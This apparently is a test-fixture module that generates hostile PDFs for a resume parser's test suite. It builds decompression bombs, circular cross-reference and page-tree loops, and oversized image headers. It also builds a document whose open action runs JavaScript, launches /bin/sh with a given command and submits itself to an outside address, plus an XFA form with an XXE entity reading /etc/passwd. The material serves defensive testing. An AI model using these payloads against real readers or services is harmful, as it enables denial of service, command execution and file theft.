"""PDFs made to cost their reader more than a resume is given, each a few kilobytes itself."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Mapping, Sequence

from tests.adapters.pdf_bytes import text_at

_FONT = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>"
_TEXT = text_at(60, 700, "Ada Fiktiva").encode()


def stream(data: bytes, keys: str = "") -> bytes:
    """A stream object."""
    return f"<< /Length {len(data)} {keys} >>\nstream\n".encode() + data + b"\nendstream"


def assembled(objects: Mapping[int, bytes], *, trailer: str = "", after: bytes = b"") -> bytes:
    """A PDF of these objects with a classic cross-reference table; object 1 is the catalog.

    `{start}` in the trailer is where the table begins. `after` stands behind the end mark.
    """
    out = bytearray(b"%PDF-1.7\n")
    offsets = {}
    for number, content in objects.items():
        offsets[number] = len(out)
        out += f"{number} 0 obj\n".encode() + content + b"\nendobj\n"
    start = len(out)
    size = max(objects) + 1
    out += f"xref\n0 {size}\n0000000000 65535 f \n".encode()
    for number in range(1, size):
        out += (
            f"{offsets[number]:010d} 00000 n \n".encode() if number in offsets else b"0000000000 00000 f \n"
        )
    out += f"trailer\n<< /Size {size} /Root 1 0 R {trailer.replace('{start}', str(start))} >>\n".encode()
    return bytes(out + f"startxref\n{start}\n%%EOF\n".encode() + after)


def one_page(
    *, content: bytes = stream(_TEXT), keys: str = "", resources: str = "", more: Mapping[int, bytes] = {},
    catalog: str = "", trailer: str = "", box: str = "[0 0 595 842]",
) -> bytes:  # fmt: skip
    """A PDF of one page; its objects are 1 to 5, `more` begins with 6."""
    return assembled(
        {
            1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>".encode(),
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Contents 4 0 R"
            f" /Resources << /Font << /F1 5 0 R >> {resources} >> {keys} >>".encode(),
            4: content,
            5: _FONT,
            **more,
        },
        trailer=trailer,
    )


def nested_flate(size: int = 4_000_000_000) -> bytes:
    """A page's content, compressed twice: `size` bytes of operators in a few kilobytes."""
    inner = repeated(b"0 0 m 9 9 l S\n" * 80_000, size)
    return one_page(content=stream(zlib.compress(inner, 9), "/Filter [/FlateDecode /FlateDecode]"))


def repeated(piece: bytes, size: int, *, before: bytes = b"") -> bytes:
    """`before` and then `piece` again and again up to `size` bytes, as zlib data made in no time.

    Each block begins afresh, so that one serves for all; the checksum at the end is left out, as PDF readers allow.
    """
    packer = zlib.compressobj(9)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + block * (size // len(piece)) + b"\x03\x00"


def circular_prev() -> bytes:
    """A cross-reference table that names itself as the one before it."""
    return one_page(trailer="/Prev {start}")


def circular_prev_of_streams() -> bytes:
    """Two cross-reference streams that name each other."""
    made = object_stream(1000)
    table = made.rindex(b"6 0 obj")
    other = len(made)
    keys = made[table : made.rindex(b"startxref")]
    first = keys.replace(b"/Root", f"/Prev {other:010d} /Root".encode())
    other += len(first) - len(keys)
    first = first.replace(f"/Prev {len(made):010d}".encode(), f"/Prev {other:010d}".encode())
    second = keys.replace(b"/Root", f"/Prev {table:010d} /Root".encode())
    return made.replace(keys, first) + second + f"startxref\n{other}\n%%EOF\n".encode()


def saved_again(times: int) -> bytes:
    """A document that was saved so often, each time with a table of its own behind the others."""
    made = one_page()
    for _ in range(times):
        last = int(made[made.rindex(b"startxref") :].split()[1])
        start = len(made)
        made += f"xref\n0 0\ntrailer\n<< /Size 6 /Root 1 0 R /Prev {last} >>\n".encode()
        made += f"startxref\n{start}\n%%EOF\n".encode()
    return made


def page_tree_cycle(*, packed: bool = False) -> bytes:
    """A page tree whose inner node is its own ancestor; `packed` puts it into an object stream."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 3 >>",
        3: b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 3 >>",
    }
    return in_object_stream(objects) if packed else assembled(objects)


def missing_pages() -> bytes:
    """A page tree of pages that are not there."""
    return assembled(
        {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R 4 0 R] /Count 2 >>"}
    )


def object_stream(size: int = 2_000_000_000) -> bytes:
    """A document whose pages stand in an object stream that unpacks to `size` bytes."""
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>"
    return in_object_stream(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            3: page,
        },
        size=size,
    )


def in_object_stream(objects: Mapping[int, bytes], *, size: int = 1000) -> bytes:
    """Objects 1 to 3 in a stream of `size` bytes; 4 is a content, 5 the stream and 6 the table."""
    index, body = "", b""
    for number, content in objects.items():
        index += f"{number} {len(body)} "
        body += content + b" "
    data = repeated(b" " * min(size, 1_000_000), size, before=index.encode() + body)
    keys = f"/Type /ObjStm /N {len(objects)} /First {len(index)} /Filter /FlateDecode"
    out = bytearray(b"%PDF-1.7\n")
    at = {4: len(out)}
    out += b"4 0 obj\n" + stream(_TEXT) + b"\nendobj\n"
    at[5] = len(out)
    out += b"5 0 obj\n" + stream(data, keys) + b"\nendobj\n"
    at[6] = len(out)
    rows = [(0, 0, 65535), *((2, 5, n) for n in range(3)), *((1, at[n], 0) for n in (4, 5, 6))]
    table = b"".join(struct.pack(">BIH", *row) for row in rows)
    out += b"6 0 obj\n" + stream(table, "/Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return bytes(out + f"startxref\n{at[6]}\n%%EOF\n".encode())


def huge_sheet() -> bytes:
    """A page many kilometres wide."""
    return one_page(box="[0 0 99999999 99999999]")


def picture(keys: str, data: bytes) -> bytes:
    """A page that shows one picture over all of it, and nothing else."""
    return one_page(
        content=stream(b"q 595 0 0 842 0 0 cm /Im Do Q"),
        resources="/XObject << /Im 6 0 R >>",
        more={6: stream(data, f"/Type /XObject /Subtype /Image {keys}")},
    )


def huge_jbig2(side: int = 100_000, height: int | None = None, *, told: int = 100_000) -> bytes:
    """A JBIG2 picture that says it is `side` by `height` (or `side`) pixels; `told` is what the PDF says of it."""
    page = struct.pack(">IIIIBH", side, side if height is None else height, 0, 0, 0, 0)
    data = struct.pack(">IBBBI", 0, 48, 0, 1, len(page)) + page
    keys = f"/Width {told} /Height {told} /BitsPerComponent 1 /ColorSpace /DeviceGray /Filter /JBIG2Decode"
    return picture(keys, data)


def huge_jpx(side: int = 100_000, *, told: int = 100_000) -> bytes:
    """A JPEG 2000 picture that says it is `side` by `side` pixels; `told` is what the PDF says of it."""
    size = struct.pack(">HIIIIIIIIH", 0, side, side, 0, 0, side, side, 0, 0, 1) + bytes([7, 1, 1])
    style = bytes([0, 0, 0, 1, 0, 0, 4, 4, 0, 1])
    quantisation = bytes([0x40, 0x40])
    code = (
        b"\xff\x4f"
        + _marker(0x51, size)
        + _marker(0x52, style)
        + _marker(0x5C, quantisation)
        + _marker(0x90, struct.pack(">HIBB", 0, 0, 0, 1))
        + b"\xff\x93"
        + b"\x00" * 16
        + b"\xff\xd9"
    )
    keys = f"/Width {told} /Height {told} /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /JPXDecode"
    return picture(keys, code)


def _marker(code: int, data: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, code, len(data) + 2) + data


def many_pages(count: int) -> bytes:
    """`count` pages, which are one page object named so often."""
    kids: Sequence[str] = ["3 0 R"] * count
    return assembled(
        {
            1: b"<< /Type /Catalog /Pages 2 0 R >>",
            2: f"<< /Type /Pages /Kids [{' '.join(kids)}] /Count {count} >>".encode(),
            3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
            4: stream(_TEXT),
        }
    )


def acting(address: str, command: str) -> bytes:
    """A document that runs JavaScript, launches `command` and submits itself to `address` when it is opened."""
    script = f"app.launchURL('{address}/js'); this.submitForm('{address}/form');"
    actions = (
        f"/OpenAction << /S /JavaScript /JS ({_escaped(script)}) /Next [<< /S /Launch /F (/bin/sh)"
        f" /Unix << /P ({command}) >> >> << /S /URI /URI ({address}/uri) >>"
        f" << /S /GoToR /F << /FS /URL /F ({address}/goto) >> /D [0 /Fit] >>"
        f" << /S /SubmitForm /F << /FS /URL /F ({address}/submit) >> >>] >>"
        f" /AA << /WC << /S /JavaScript /JS ({_escaped(script)}) >> >>"
    )
    return one_page(catalog=actions, keys=f"/AA << /O << /S /JavaScript /JS ({_escaped(script)}) >> >>")


def xfa(address: str) -> bytes:
    """A form in XML that asks its reader to fetch entities, a schema and a stylesheet."""
    form = (
        f'<?xml version="1.0"?><?xml-stylesheet href="{address}/style" type="text/xsl"?>'
        f'<!DOCTYPE xdp SYSTEM "{address}/dtd" [<!ENTITY x SYSTEM "{address}/entity">'
        '<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&x;&f;</template></xdp:xdp>'
    )
    return one_page(catalog="/AcroForm << /Fields [] /XFA 6 0 R >>", more={6: stream(form.encode())})


def _escaped(text: str) -> str:
    return text.replace("(", "\\(").replace(")", "\\)")
